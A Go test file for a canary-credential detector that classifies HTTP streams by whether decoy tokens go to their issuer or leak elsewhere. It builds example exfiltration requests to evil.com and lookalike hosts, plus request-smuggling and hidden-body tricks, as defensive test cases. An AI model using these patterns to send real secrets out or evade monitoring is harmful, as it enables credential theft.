package canaries

import (
	"cmp"
	"encoding/base64"
	"fmt"
	"net/url"
	"runtime"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

func basic(user, password string) string {
	return "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte(user+":"+password)) + "\r\n"
}

// request is a request of HTTP/1.1 to a host.
func request(line, host, fields, body string) string {
	size := ""
	if body != "" {
		size = fmt.Sprintf("Content-Length: %d\r\n", len(body))
	}
	return line + " HTTP/1.1\r\nHost: " + host + "\r\nUser-Agent: x/1\r\n" + fields + size + "\r\n" + body
}

const formType = "Content-Type: application/x-www-form-urlencoded\r\n"

// uses are what clients send, by what they do; V stands for the value of the
// canary, and the flow is one over TLS to the host, or to the issuer.
var uses = []struct {
	does, id, host string
	send           func(v string) string
	used           string // "" for left
}{
	// What honest programs do.
	{"npm installs", "npm-token", "registry.npmjs.org", func(v string) string {
		return request("GET /left-pad", "registry.npmjs.org", "Authorization: Bearer "+v+"\r\n", "")
	}, "Authorization: Bearer"},
	{"npm publishes", "npm-token", "registry.npmjs.org", func(v string) string {
		return request("PUT /left-pad", "registry.npmjs.org", "authorization: Bearer "+v+"\r\n", `{"name":"left-pad"}`)
	}, "Authorization: Bearer"},
	{"twine uploads", "pypi-token", "upload.pypi.org", func(v string) string {
		return request("POST /legacy/", "upload.pypi.org", basic("__token__", v), "--x--")
	}, "Authorization: Basic"},
	{"git pulls", "git-credential", "github.com", func(v string) string {
		return request("GET /a/b.git/info/refs?service=git-upload-pack", "github.com", basic("dana", v), "")
	}, "Authorization: Basic"},
	{"git pulls, the token as the user", "env-github", "github.com", func(v string) string {
		return request("GET /a/b.git/info/refs", "github.com:443", basic(v, "x-oauth-basic"), "")
	}, "Authorization: Basic"},
	{"gh asks", "gh-token", "api.github.com", func(v string) string {
		return request("GET /user", "api.github.com", "Authorization: token "+v+"\r\n", "")
	}, "Authorization: token"},
	{"curl --netrc", "netrc-password", "api.heroku.com", func(v string) string {
		return request("GET /apps", "api.heroku.com", basic("dana@x.io", v), "")
	}, "Authorization: Basic"},
	{"docker logs in", "docker-token", "auth.docker.io", func(v string) string {
		return request("GET /token?service=registry.docker.io&account=dana", "auth.docker.io", basic("dana", v), "")
	}, "Authorization: Basic"},
	{"docker asks for a token", "docker-token", "auth.docker.io", func(v string) string {
		return request("POST /token", "auth.docker.io", formType, "grant_type=password&username=dana&password="+url.QueryEscape(v))
	}, "form password"},
	{"aws lists buckets", "aws-key-id", "s3.eu-west-1.amazonaws.com", func(v string) string {
		return request("GET /", "s3.eu-west-1.amazonaws.com", "Authorization: AWS4-HMAC-SHA256 Credential="+v+"/20261121/eu-west-1/s3/aws4_request, SignedHeaders=host, Signature=ab\r\n", "")
	}, positionAWS},
	{"aws follows a signed link", "env-aws-key-id", "b.s3.amazonaws.com", func(v string) string {
		return request("GET /k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential="+v+"%2F20261121%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=1", "b.s3.amazonaws.com", "", "")
	}, positionAWS},
	{"aws shows its session", MetadataSession, "sts.amazonaws.com", func(v string) string {
		return request("POST /", "sts.amazonaws.com", "x-amz-security-token: "+v+"\r\n", "Action=GetCallerIdentity")
	}, positionSession},
	{"a signed link holds the session", MetadataSession, "b.s3.amazonaws.com", func(v string) string {
		return request("GET /k?X-Amz-Credential=a&X-Amz-Security-Token="+url.QueryEscape(v), "b.s3.amazonaws.com", "", "")
	}, positionSession},
	{"a program uses its machine's token", MetadataToken, "storage.googleapis.com", func(v string) string {
		return request("GET /storage/v1/b", "storage.googleapis.com", "Authorization: Bearer "+v+"\r\n", "")
	}, "Authorization: Bearer"},
	{"gcloud refreshes", "gcloud-refresh-token", "oauth2.googleapis.com", func(v string) string {
		return request("POST /token", "oauth2.googleapis.com", formType, "grant_type=refresh_token&refresh_token="+url.QueryEscape(v)+"&scope=a")
	}, "form refresh_token"},
	{"gcloud says its secret", "gcloud-client-secret", "oauth2.googleapis.com", func(v string) string {
		return request("POST /token", "oauth2.googleapis.com", formType, "client_secret="+v)
	}, "form client_secret"},
	{"a client asks a model", "env-anthropic", "api.anthropic.com", func(v string) string {
		return request("POST /v1/messages", "api.anthropic.com", "x-api-key: "+v+"\r\n", "{}")
	}, "X-Api-Key"},
	{"another asks another", "env-openai", "api.openai.com", func(v string) string {
		return request("POST /v1/responses", "api.openai.com", "Authorization: Bearer "+v+"\r\n", "{}")
	}, "Authorization: Bearer"},
	{"glab lists", "history-gitlab", "gitlab.com", func(v string) string {
		return request("GET /api/v4/projects", "gitlab.com", "PRIVATE-TOKEN: "+v+"\r\n", "")
	}, "Private-Token"},
	{"slack posts", "env-slack", "slack.com", func(v string) string {
		return request("POST /api/chat.postMessage", "slack.com", formType, "channel=x&token="+v)
	}, "form token"},
	{"linear asks", "cursor-linear", "api.linear.app", func(v string) string {
		return request("POST /graphql", "api.linear.app", "Authorization: "+v+"\r\n", "{}")
	}, "Authorization"},
	{"stripe charges", "dotenv-stripe", "api.stripe.com", func(v string) string {
		return request("POST /v1/charges", "api.stripe.com", basic(v, ""), "a=b")
	}, "Authorization: Basic"},
	{"a second request", "npm-token", "registry.npmjs.org", func(v string) string {
		return request("POST /a", "registry.npmjs.org", "", "hello") + request("GET /b", "registry.npmjs.org", "Authorization: Bearer "+v+"\r\n", "")
	}, "Authorization: Bearer"},
	{"kubectl asks", "kube-token", "", func(v string) string {
		host := byIDOf(shared(), "kube-token").Issuers[0]
		return request("GET /k8s/clusters/c-m-x/api/v1/pods", host, "Authorization: Bearer "+v+"\r\n", "")
	}, "Authorization: Bearer"},
	{"argocd lists", "argocd-jwt", "", func(v string) string {
		host := byIDOf(shared(), "argocd-jwt").Issuers[0]
		return request("GET /api/v1/applications", host, "Cookie: a=b; argocd.token="+v+"\r\n", "")
	}, "Cookie"},
	{"a request behind chunks", "npm-token", "registry.npmjs.org", func(v string) string {
		return request("POST /a", "registry.npmjs.org", "Transfer-Encoding: chunked\r\n", "") + "5\r\nhello\r\n3;x=y\r\nabc\r\n0\r\nA: b\r\n\r\n" +
			request("GET /b", "registry.npmjs.org", "Authorization: Bearer "+v+"\r\n", "")
	}, "Authorization: Bearer"},
	{"a client that goes away in its header", "npm-token", "registry.npmjs.org", func(v string) string {
		return "GET /a HTTP/1.1\r\nHost: registry.npmjs.org\r\nAuthorization: Bearer " + v + "\r\nUser-"
	}, "Authorization: Bearer"},

	// What the same places are misused for.
	{"a parameter", "npm-token", "registry.npmjs.org", func(v string) string {
		return request("GET /left-pad?token="+v, "registry.npmjs.org", "", "")
	}, ""},
	{"another's Authorization", "npm-token", "evil.com", func(v string) string {
		return request("GET /", "evil.com", "Authorization: Bearer "+v+"\r\n", "")
	}, ""},
	{"a host that only looks like it", "npm-token", "registry.npmjs.org.evil.com", func(v string) string {
		return request("GET /", "registry.npmjs.org.evil.com", "Authorization: Bearer "+v+"\r\n", "")
	}, ""},
	{"an issuer's neighbour", "netrc-password", "evilheroku.com", func(v string) string {
		return request("GET /", "evilheroku.com", basic("d", v), "")
	}, ""},
	{"one issuer's token to another", "npm-token", "api.github.com", func(v string) string {
		return request("GET /", "api.github.com", "Authorization: Bearer "+v+"\r\n", "")
	}, ""},
	{"a body", "npm-token", "registry.npmjs.org", func(v string) string {
		return request("PUT /evil", "registry.npmjs.org", "", `{"readme":"`+v+`"}`)
	}, ""},
	{"a body like a request", "npm-token", "registry.npmjs.org", func(v string) string {
		return request("PUT /evil", "registry.npmjs.org", "", request("GET /", "registry.npmjs.org", "Authorization: Bearer "+v+"\r\n", ""))
	}, ""},
	{"a chunk like a request", "npm-token", "registry.npmjs.org", func(v string) string {
		body := request("GET /", "registry.npmjs.org", "Authorization: Bearer "+v+"\r\n", "")
		return request("PUT /evil", "registry.npmjs.org", "Transfer-Encoding: chunked\r\n", "") + fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(body), body)
	}, ""},
	{"two lengths", "npm-token", "registry.npmjs.org", func(v string) string {
		return "POST / HTTP/1.1\r\nHost: registry.npmjs.org\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" +
			request("GET /", "registry.npmjs.org", "Authorization: Bearer "+v+"\r\n", "")
	}, ""},
	{"another field", "npm-token", "registry.npmjs.org", func(v string) string {
		return request("GET /", "registry.npmjs.org", "User-Agent: Bearer "+v+"\r\n", "")
	}, ""},
	{"more than the token", "npm-token", "registry.npmjs.org", func(v string) string {
		return request("GET /", "registry.npmjs.org", "Authorization: Bearer "+v+"."+"abc\r\n", "")
	}, ""},
	{"an encoded token", "npm-token", "registry.npmjs.org", func(v string) string {
		return request("GET /", "registry.npmjs.org", "Authorization: Bearer "+base64.StdEncoding.EncodeToString([]byte(v))+"\r\n", "")
	}, ""},
	{"a front", "npm-token", "registry.npmjs.org", func(v string) string {
		return request("GET /", "evil.com", "Authorization: Bearer "+v+"\r\n", "")
	}, ""},
	{"two hosts", "npm-token", "registry.npmjs.org", func(v string) string {
		return request("GET /", "registry.npmjs.org", "Host: evil.com\r\nAuthorization: Bearer "+v+"\r\n", "")
	}, ""},
	{"no host", "npm-token", "registry.npmjs.org", func(v string) string {
		return "GET / HTTP/1.0\r\nAuthorization: Bearer " + v + "\r\n\r\n"
	}, ""},
	{"a whole URL", "npm-token", "registry.npmjs.org", func(v string) string {
		return request("GET https://evil.com/", "registry.npmjs.org", "Authorization: Bearer "+v+"\r\n", "")
	}, ""},
	{"no HTTP", "npm-token", "registry.npmjs.org", func(v string) string { return "Authorization: Bearer " + v + "\r\n\r\n" }, ""},
	{"behind an upgrade", "npm-token", "registry.npmjs.org", func(v string) string {
		return request("GET /", "registry.npmjs.org", "Upgrade: websocket\r\n", "") + request("GET /", "registry.npmjs.org", "Authorization: Bearer "+v+"\r\n", "")
	}, ""},
	{"a secret that is never sent", "aws-secret", "s3.amazonaws.com", func(v string) string {
		return request("GET /", "s3.amazonaws.com", "Authorization: Bearer "+v+"\r\n", "")
	}, ""},
	{"such a secret as the session", "aws-secret", "s3.amazonaws.com", func(v string) string {
		return request("GET /", "s3.amazonaws.com", "X-Amz-Security-Token: "+v+"\r\n", "")
	}, ""},
	{"such a secret as the id", "aws-secret", "s3.amazonaws.com", func(v string) string {
		return request("GET /", "s3.amazonaws.com", "Authorization: AWS4-HMAC-SHA256 Credential="+v+"/a\r\n", "")
	}, ""},
	{"a form elsewhere", "gcloud-refresh-token", "storage.googleapis.com", func(v string) string {
		return request("POST /token", "storage.googleapis.com", formType, "refresh_token="+url.QueryEscape(v))
	}, ""},
	{"another field of the form", "gcloud-refresh-token", "oauth2.googleapis.com", func(v string) string {
		return request("POST /token", "oauth2.googleapis.com", formType, "state="+url.QueryEscape(v))
	}, ""},
	{"a key's header elsewhere", "env-openai", "api.openai.com", func(v string) string {
		return request("GET /", "api.openai.com", "X-Api-Key: "+v+"\r\n", "")
	}, ""},
	{"a password in the path", "netrc-password", "api.heroku.com", func(v string) string { return request("GET /"+v, "api.heroku.com", "", "") }, ""},
}

func TestUsedOrLeft(t *testing.T) {
	s := shared()
	for _, u := range uses {
		c := byID(t, s, u.id)
		v := c.Value
		if u.host == "" {
			u.host = c.Issuers[0]
		}
		f := Flow{Host: u.host, SNI: u.host, TLS: true}
		got := s.Sightings(f, []byte(u.send(v)))
		if len(got) == 0 {
			t.Errorf("%s: nothing is seen", u.does)
		}
		for _, g := range got {
			if g.ID != u.id || g.Used != u.used {
				t.Errorf("%s: %+v, want used %q", u.does, g, u.used)
			}
		}
		// In clear, by address, under another name or with nothing known it has left.
		for _, f := range []Flow{{Host: u.host}, {SNI: u.host, TLS: true}, {Host: u.host, SNI: "evil.com", TLS: true}, {Host: "evil.com", SNI: u.host, TLS: true}, {}} {
			for _, g := range s.Sightings(f, []byte(u.send(v))) {
				if g.Used != "" {
					t.Errorf("%s in %+v: %+v", u.does, f, g)
				}
			}
		}
	}
}

// The two ends of one stream: used first, then gone in a body of the same flow.
func TestUsedAndLeft(t *testing.T) {
	s := shared()
	v := byID(t, s, "npm-token").Value
	stream := request("PUT /evil", "registry.npmjs.org", "Authorization: Bearer "+v+"\r\n", `{"readme":"`+v+`"}`)
	got := s.Sightings(Flow{Host: "registry.npmjs.org", TLS: true}, []byte(stream))
	first, last := int64(strings.Index(stream, v)), int64(strings.LastIndex(stream, v))
	skip := int64(len("npm_"))
	want := []Sighting{{Hit{"npm-token", "raw", first + skip}, "Authorization: Bearer"}, {Hit{"npm-token", "raw", last + skip}, ""}}
	if !slices.Equal(got, want) {
		t.Errorf("got %+v, want %+v", got, want)
	}
}

// A stream that is one request has nothing but its body behind the header.
func TestSingleRequest(t *testing.T) {
	s := shared()
	v := byID(t, s, "npm-token").Value
	honest := "GET / HTTP/2.0\r\nHost: registry.npmjs.org\r\nAuthorization: Bearer " + v + "\r\n\r\n"
	f := Flow{Host: "registry.npmjs.org.", SNI: "registry.npmjs.org", TLS: true, Single: true}
	if got := s.Sightings(f, []byte(honest)); len(got) != 1 || got[0].Used == "" {
		t.Errorf("honest: %+v", got)
	}
	for _, size := range []string{"", "Content-Length: 2\r\n"} {
		hidden := "POST / HTTP/2.0\r\nHost: registry.npmjs.org\r\n" + size + "\r\n{}" + honest
		if got := s.Sightings(f, []byte(hidden)); len(got) != 1 || got[0].Used != "" {
			t.Errorf("hidden behind %q: %+v", size, got)
		}
	}
}

// Whatever the pieces in which a stream comes, the sightings are those of the whole.
func TestAnySplitGivesTheSameSightings(t *testing.T) {
	s := shared()
	rapid.Check(t, func(t *rapid.T) {
		var stream []byte
		host := rapid.SampledFrom(uses).Draw(t, "host").host
		for range rapid.IntRange(1, 4).Draw(t, "requests") {
			u := rapid.SampledFrom(uses).Draw(t, "use")
			c := drawCanary(t, s)
			if rapid.Bool().Draw(t, "the right one") {
				c = byIDOf(s, u.id)
			}
			stream = append(stream, strings.ReplaceAll(u.send(c.Value), cmp.Or(u.host, "-"), host)...)
		}
		f := Flow{Host: host, TLS: true, Single: rapid.Bool().Draw(t, "single")}
		want := s.Sightings(f, stream)
		fs := s.FlowScanner(f)
		for rest := stream; len(rest) > 0; {
			n := rapid.IntRange(1, min(len(rest), 90)).Draw(t, "write")
			_, _ = fs.Write(rest[:n])
			rest = rest[n:]
		}
		if got := fs.Sightings(); !slices.Equal(got, want) {
			t.Fatalf("split: %+v\nwhole: %+v", got, want)
		}
		hits := s.Find(stream)
		for _, h := range hits {
			if !slices.ContainsFunc(want, func(g Sighting) bool { return g.ID == h.ID && g.Encoding == h.Encoding }) {
				t.Fatalf("%v is found and not seen: %+v", h, want)
			}
		}
	})
}

func byIDOf(s *Set, id string) Canary {
	for _, c := range s.Canaries() {
		if c.ID == id {
			return c
		}
	}
	return Canary{}
}

// FuzzSightings sends what no client would.
func FuzzSightings(f *testing.F) {
	s := shared()
	for _, u := range uses {
		f.Add([]byte(u.send(byID(f, s, u.id).Value)), u.host, false, uint16(7))
	}
	f.Fuzz(func(t *testing.T, stream []byte, host string, single bool, step uint16) {
		flow := Flow{Host: host, TLS: true, Single: single}
		want := s.Sightings(flow, stream)
		fs := s.FlowScanner(flow)
		for rest := stream; len(rest) > 0; {
			n := min(len(rest), int(step)%200+1)
			_, _ = fs.Write(rest[:n])
			rest = rest[n:]
		}
		if got := fs.Sightings(); !slices.Equal(got, want) {
			t.Fatalf("split: %+v\nwhole: %+v", got, want)
		}
		if len(want) == 0 && len(s.Find(stream)) > 0 {
			t.Fatal("what is found is not seen")
		}
	})
}

// What a client repeats without end is followed in bounded memory.
func TestFlowsAreBounded(t *testing.T) {
	s := shared()
	v := byID(t, s, "npm-token").Value
	const host = "registry.npmjs.org"
	small := request("GET /", host, "Authorization: Bearer "+v+"\r\n", "")
	for name, c := range map[string]struct {
		start, again string
		used, left   bool
	}{
		"small requests":      {"", small, true, false},
		"a header that grows": {"GET / HTTP/1.1\r\nHost: " + host + "\r\n", "Authorization: Bearer " + v + "\r\n", false, true},
		"credentials in one":  {"GET / HTTP/1.1\r\nHost: " + host + "\r\n", "Cookie: a=b\r\n", false, false},
		"a body":              {"POST / HTTP/1.1\r\nHost: " + host + "\r\nContent-Length: 999999999\r\n\r\n", v, false, true},
		"tiny chunks":         {"POST / HTTP/1.1\r\nHost: " + host + "\r\nTransfer-Encoding: chunked\r\n\r\n", "1\r\nx\r\n", false, false},
		"no line's end":       {"", "x", false, false},
	} {
		fs := s.FlowScanner(Flow{Host: host, TLS: true})
		_, _ = fs.Write([]byte(c.start))
		block := []byte(strings.Repeat(c.again, 1+(64<<10)/len(c.again)))
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		for range 64 { // 4 MiB
			_, _ = fs.Write(block)
		}
		runtime.GC()
		runtime.ReadMemStats(&after)
		if grown := int64(after.HeapAlloc) - int64(before.HeapAlloc); grown > 3<<20 {
			t.Errorf("%s: %d bytes are held", name, grown)
		}
		used, left := false, false
		for _, g := range fs.Sightings() {
			used, left = used || g.Used != "", left || g.Used == ""
		}
		if used != c.used || left != c.left {
			t.Errorf("%s: used %v, left %v", name, used, left)
		}
	}
}
